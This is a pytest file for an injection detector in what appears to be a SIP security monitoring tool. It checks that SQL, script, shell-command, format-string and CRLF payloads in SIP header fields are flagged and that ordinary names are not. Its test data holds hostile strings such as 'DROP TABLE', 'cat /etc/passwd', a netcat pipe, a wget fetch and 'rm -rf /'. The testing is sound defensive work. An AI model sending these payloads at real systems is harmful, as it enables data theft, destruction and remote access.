"""injection.payload_in_user_field: precise SQL / script / command / format-string / CRLF
patterns in user-controlled request fields after %-decoding; never a bare quote (secfilter's
O'Reilly false positive, kamailio#3984); linear time on hostile 16 KB values; no state."""

from __future__ import annotations

import time
from urllib.parse import quote

import pydantic
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sipwarden.detect import DETECTORS, Engine, Severity
from sipwarden.detect.detectors.injection import (
    PayloadInUserField,
    PayloadInUserFieldConfig,
    find_payloads,
)
from sipwarden.sources.capture import iter_observations
from tests.conftest import need_shared
from tests.detect import observe

SRC = "192.0.2.10"
DST = "198.51.100.5"


def request(
    display: str = "Alice",
    user: str = "alice",
    to_user: str = "bob",
    user_agent: str = "Linphone/5.2",
    extra: str = "",
    method: str = "INVITE",
) -> bytes:
    return (
        f"{method} sip:{to_user}@{DST} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {SRC};branch=z9hG4bK1\r\n"
        f'From: "{display}" <sip:{user}@{SRC}>;tag=1\r\nTo: <sip:{to_user}@{DST}>\r\n'
        f"Call-ID: c1\r\nCSeq: 1 {method}\r\nMax-Forwards: 70\r\n"
        f"Contact: <sip:{user}@{SRC}>\r\nUser-Agent: {user_agent}\r\n{extra}"
        "Content-Length: 0\r\n\r\n"
    ).encode()


def test_registered_and_defaults_match_their_anchors() -> None:
    assert DETECTORS["injection.payload_in_user_field"] is PayloadInUserField
    assert PayloadInUserField.Config is PayloadInUserFieldConfig
    config = PayloadInUserFieldConfig()
    assert (config.decode_rounds, config.min_format_conversions, config.block_ttl_s) == (3, 2, 300)
    described = PayloadInUserFieldConfig.model_fields["block_ttl_s"].description or ""
    assert "Kamailio" in described
    for name, info in PayloadInUserFieldConfig.model_fields.items():
        assert info.description, f"{name} has no description"
    doc = PayloadInUserField.__doc__ or ""
    assert "Signal" in doc and "Why" in doc and "anchor" in doc and "false positives" in doc
    with pytest.raises(pydantic.ValidationError, match="decode_round"):
        PayloadInUserFieldConfig(decode_round=2)  # type: ignore[call-arg]


@pytest.mark.parametrize(
    ("payload", "kind"),
    [
        ("' or '1'='1", "sql"),
        ("x' OR 1=1--", "sql"),
        ("1 union select password from subscriber", "sql"),
        ("1 UNION/**/ALL/**/SELECT 1", "sql"),
        ("100;-- ", "sql"),
        ("1; DROP TABLE subscriber", "sql"),
        ("1 and sleep(5)", "sql"),
        ("1'; waitfor delay '0:0:5", "sql"),
        ("<script>alert(1)</script>", "script"),
        ("javascript:alert(1)", "script"),
        ("<img src=x onerror=alert(1)>", "script"),
        ("<svg/onload=alert(1)>", "script"),
        ("$(id)", "command"),
        ("`id`", "command"),
        ("100;cat /etc/passwd", "command"),
        ("x | nc 203.0.113.9 4444", "command"),
        ("bob; rm -rf /", "command"),
        ("bob;wget http://203.0.113.9/x", "command"),
        ("a;whoami", "command"),
        ("a && wget http://203.0.113.9/x", "command"),
        ("x && id", "command"),
        ("a|sleep 5", "command"),
        ("'; select * from subscriber--", "sql"),
        ("1; update subscriber set password=1", "sql"),
        ("1; truncate table cdr", "sql"),
        ("1; delete from location", "sql"),
        ("%s%s%s%s", "format_string"),
        ("%x%x%x", "format_string"),
        ("%08x.%08x", "format_string"),
        ("AAAA%n", "format_string"),
        ("%2$s", "format_string"),
        ("bob%0d%0aVia: SIP/2.0/UDP evil", "crlf"),
        ("bob%0aX-Injected: 1", "crlf"),
    ],
)
def test_find_payloads_classes(payload: str, kind: str) -> None:
    assert kind in find_payloads(payload)
    assert kind in find_payloads(quote(payload, safe=""))  # %-encoded once
    assert kind in find_payloads(quote(quote(payload, safe=""), safe=""))  # and twice


@pytest.mark.parametrize(
    "benign",
    [
        '"O\'Reilly" <sip:oreilly@example.com>;tag=1',
        "D'Angelo",
        "Smith & Sons",
        "Rock 'n' Roll Bar",
        "L'Oréal Paris",
        "AT&T Wireless",
        "Ben & Jerry's",
        "It's 100% sure, 50% sale",
        "O'Brien-Smith, Jr.",
        "%27",  # secfilter flags the encoded quote alone
        '"quoted" -- name',
        "Polycom/5.9.5 SoundPoint",
        "Select Group from London",
        "Meeting; rm 204",  # free-text Subject with words that are also commands
        "Ref; id 42; sh at 5",
        '<sip:+442079460000@ims.example.net;user=phone>;tag=8e3f;+sip.instance="<urn:x>"',
        'Digest username="alice", realm="example.com", nonce="ab12", uri="sip:x"',
        "a84b4c76e66710@pc33.atlanta.example.com",
        "john%20smith%20sons",  # encoded blanks, not "%20s" conversions
        "Save 100%25 now%25",  # encoded percent signs, not "%25n"
        "Ne%s\x00SIPPS",  # one %s: a fuzzer's mutation, malformed's business
        # Regressions: prose that the first patterns took for shell or SQL.
        "Sales|Echo 3",  # shells are case-sensitive: "Echo" is no command
        "Caller | ID 42",
        "Pets | cat 42",  # a number is an argument only for nc/ping/sleep/telnet
        "Status; update follows",  # a stacked statement needs its own keyword
        "Meeting; select winners",
        "Alice; Select (",  # found by the property test below
        "Alice; delete from list",  # no literal closed before ";"
        "Lunch 2; update team set",  # an SQL update sets something "="
        "Sleep (3)",  # SQL's sleep takes "(" right after the name, then a number
    ],
)
def test_find_payloads_benign_values(benign: str) -> None:
    assert find_payloads(benign) == {}


@given(
    st.from_regex(
        r"[A-Z][a-zé]{1,10}(['\- .][A-Z]?[a-z]{1,10}){0,3}( (&|and|or) [A-Z][a-z]{1,10}('s)?)?",
        fullmatch=True,
    )
)
def test_names_with_quotes_and_ampersands_never_fire(name: str) -> None:
    assert find_payloads(name) == {}
    assert PayloadInUserField().observe(observe(request(display=name, user_agent=name))) == []


#: Words of display names and labels, including SQL and shell words written as people write them.
_VOCABULARY = (
    "Alice O'Brien D'Angelo Smith-Jones Sales Support Echo Test Select Update Drop Union "
    "Order Sleep Cat ID Ping Script Reception Desk Floor Room Zoë Müller Straße and or the "
    "of room desk sales team office"
)
_WORDS = st.sampled_from(_VOCABULARY.split())
_NUMBERS = st.from_regex(r"\+?[0-9]{1,15}|[0-9]{1,4}(-[0-9]{2,4}){1,3}|#[0-9]{1,3}", fullmatch=True)
_SEPARATORS = st.sampled_from([" ", " ", " & ", ", ", " - ", " / ", " | ", "; ", " (", ") ", "'s "])


@given(st.lists(st.tuples(st.one_of(_WORDS, _NUMBERS), _SEPARATORS), min_size=1, max_size=8))
def test_ordinary_names_and_numbers_never_fire(parts: list[tuple[str, str]]) -> None:
    """Display names, department labels and numbers in any order, joined by the punctuation
    people type (including "|" and ";"), never look like a payload."""
    text = "".join(word + separator for word, separator in parts).strip()
    assert find_payloads(text) == {}, text
    assert find_payloads(quote(text, safe="")) == {}, text


def test_format_string_fires_at_n_conversions_not_below() -> None:
    config = PayloadInUserFieldConfig(min_format_conversions=3)
    detector = PayloadInUserField(config)
    assert detector.observe(observe(request(user_agent="UA %s%s"))) == []
    (hit,) = detector.observe(observe(request(user_agent="UA %s%s%s")))
    assert hit.indicators["payload_class"] == "format_string"
    assert hit.severity is Severity.MEDIUM
    assert hit.recommended_action is not None and hit.recommended_action.action_code == "MONITOR"


def test_decode_rounds_fires_at_n_encodings_not_beyond() -> None:
    payload = "' or '1'='1"
    for _ in range(2):
        payload = quote(payload, safe="")
    assert find_payloads(payload, decode_rounds=2) != {}
    assert find_payloads(payload, decode_rounds=1) == {}


@pytest.mark.parametrize(
    ("field", "overrides"),
    [
        ("request_uri", {"to_user": "1%27%20or%20%271%27%3D%271"}),
        ("from", {"display": "x' or '1'='1"}),
        ("from", {"user": "%3Cscript%3Ealert(1)%3C%2Fscript%3E"}),
        ("user_agent", {"user_agent": "friendly; cat /etc/passwd"}),
        ("subject", {"extra": "Subject: <script>alert(1)</script>\r\n"}),
        ("authorization", {"extra": 'Authorization: Digest username="a\' or 1=1--"\r\n'}),
        ("p_asserted_identity", {"extra": "P-Asserted-Identity: <sip:$(reboot)@x>\r\n"}),
        ("contact", {"extra": "Contact: <sip:a@b>, \"x' or '1'='1\" <sip:c@d>\r\n"}),
        ("p_asserted_identity", {"extra": "P-Asserted-Identity: <sip:a@evil$(id)>\r\n"}),
        ("request_uri", {"to_user": "1%20union%20select%20pw"}),
        ("p_preferred_identity", {"extra": "P-Preferred-Identity: <sip:$(id)@x>\r\n"}),
        ("remote_party_id", {"extra": 'Remote-Party-ID: "<script>" <sip:1@x>;party=calling\r\n'}),
        ("diversion", {"extra": "Diversion: <sip:1%27%20or%201%3D1@x>;reason=unknown\r\n"}),
        ("refer_to", {"extra": "Refer-To: <sip:`id`@x?Replaces=a%40b%3Bto-tag%3D1>\r\n"}),
        ("referred_by", {"extra": "b: \"x' or '1'='1\" <sip:a@b>\r\n"}),  # compact form
        ("reply_to", {"extra": "Reply-To: <sip:a@evil$(id)>\r\n"}),
        ("organization", {"extra": "Organization: ACME'; drop table cdr--\r\n"}),
    ],
)
def test_fires_in_each_user_field(field: str, overrides: dict[str, str]) -> None:
    (hit,) = PayloadInUserField().observe(observe(request(**overrides)))
    assert hit.indicators["field"] == field
    assert hit.severity is Severity.HIGH and hit.confidence == 85
    assert hit.key == f"{SRC}|{hit.indicators['payload_class']}"
    assert hit.recommended_action is not None
    assert hit.recommended_action.action_code == "TEMP_BLOCK"
    assert hit.recommended_action.suggested_ttl_seconds == 300


def test_crlf_only_counts_when_decoding_creates_it() -> None:
    detector = PayloadInUserField()
    (hit,) = detector.observe(observe(request(to_user="bob%0d%0aX-Evil:%201")))
    assert hit.indicators["payload_class"] == "crlf" and hit.severity is Severity.MEDIUM
    assert "\\r\\n" in hit.indicators["match"]  # shown escaped, never raw
    assert detector.observe(observe(request(to_user="bob%0dx", method="OPTIONS"))) != []


def test_several_classes_in_one_message_are_separate_hits() -> None:
    data = request(display="x' or 1=1--", user_agent="<script>x</script> %n")
    hits = PayloadInUserField().observe(observe(data))
    assert sorted(h.indicators["payload_class"] for h in hits) == [
        "format_string",
        "script",
        "sql",
    ]


def test_responses_and_parse_failures_are_not_inspected() -> None:
    response = (
        f"SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP {SRC};branch=z9hG4bK1\r\n"
        f"From: \"x' or '1'='1\" <sip:a@{SRC}>;tag=1\r\nTo: <sip:b@{DST}>;tag=2\r\n"
        "Call-ID: c1\r\nCSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n"
    ).encode()
    detector = PayloadInUserField()
    assert detector.observe(observe(response)) == []
    assert detector.observe(observe(b"' or '1'='1\r\n\r\n")) == []


def test_allow_listed_source_is_silent() -> None:
    detector = PayloadInUserField(PayloadInUserFieldConfig(allow_sources=("192.0.2.0/24",)))
    assert detector.observe(observe(request(display="x' or '1'='1"))) == []


def test_state_stays_empty_under_hostile_sources() -> None:
    detector = PayloadInUserField()
    for i in range(300):
        hostile = request(display=f"{i}' or '1'='1", user_agent=f"$(id {i})")
        assert len(detector.observe(observe(hostile, src=f"10.0.{i >> 8}.{i & 255}"))) == 2
    assert detector.state_size() == 0 and detector.evictions() == 0


@pytest.mark.parametrize(
    "hostile",
    [
        "'" * 16384,
        "%" * 16384,
        "%25" * 5461,
        "<" * 16384,
        "$(" * 8192,
        "`id" * 5461,
        "union " * 2730,
        "/*" * 8192,
        "union" + "/**/" * 4095,
        "' or " * 3276,
        "%08" * 5461,
        ";" * 16384,
        "a" * 16384,
    ],
)
def test_hostile_16k_values_run_fast(hostile: str) -> None:
    start = time.perf_counter()
    find_payloads(hostile)
    assert time.perf_counter() - start < 0.25


def test_hostile_user_agent_in_a_message_runs_fast() -> None:
    detector = PayloadInUserField()
    data = request(user_agent="' or " * 1600)
    start = time.perf_counter()
    hits = detector.observe(observe(data))
    assert time.perf_counter() - start < 0.25
    assert [h.indicators["payload_class"] for h in hits] == []  # no tautology: no "=" follows


def test_engine_aggregates_per_source_and_class() -> None:
    engine = Engine([PayloadInUserField()])
    for i in range(4):
        engine.observe(observe(request(display="x' or '1'='1"), ts=i, frame=i + 1))
    engine.observe(observe(request(user_agent="$(id)"), ts=5, frame=6))
    findings = {f.key: f for f in engine.finish()}
    assert findings[f"{SRC}|sql"].count == 4
    assert findings[f"{SRC}|command"].count == 1


def test_fuzz_capture_format_strings_are_malformed_not_injection() -> None:
    """The ndpi fuzz capture mutates headers with a single ``%s\\0`` (e.g. ``Ne%s\\0SIPPS``):
    decided to leave those to malformed.parser_defect; the only multi-%s field is in a
    response, which is not inspected."""
    path = need_shared("corpus/pcap/malformed/ndpi--fuzz-2006-06-26-2594.pcap")
    engine = Engine([PayloadInUserField()])
    for obs in iter_observations(path):
        engine.observe(obs)
    assert engine.finish() == []


@pytest.mark.parametrize(
    "capture",
    [
        "normal/heplify--sip_ipv4_tcp_fragmented.pcap",
        "normal/heplify--sip_tcp_websocket.pcap",
        "normal/suricata-verify--cloudshark-sip-s0.pcap",
        "normal/snort3_demo--digium.pcap",
        "attack/initconf--BadUserAgent-sipvicious.pcap",
    ],
)
def test_corpus_captures_carry_no_injection(capture: str) -> None:
    path = need_shared(f"corpus/pcap/{capture}")
    engine = Engine([PayloadInUserField()])
    for obs in iter_observations(path):
        engine.observe(obs)
    assert engine.finish() == []
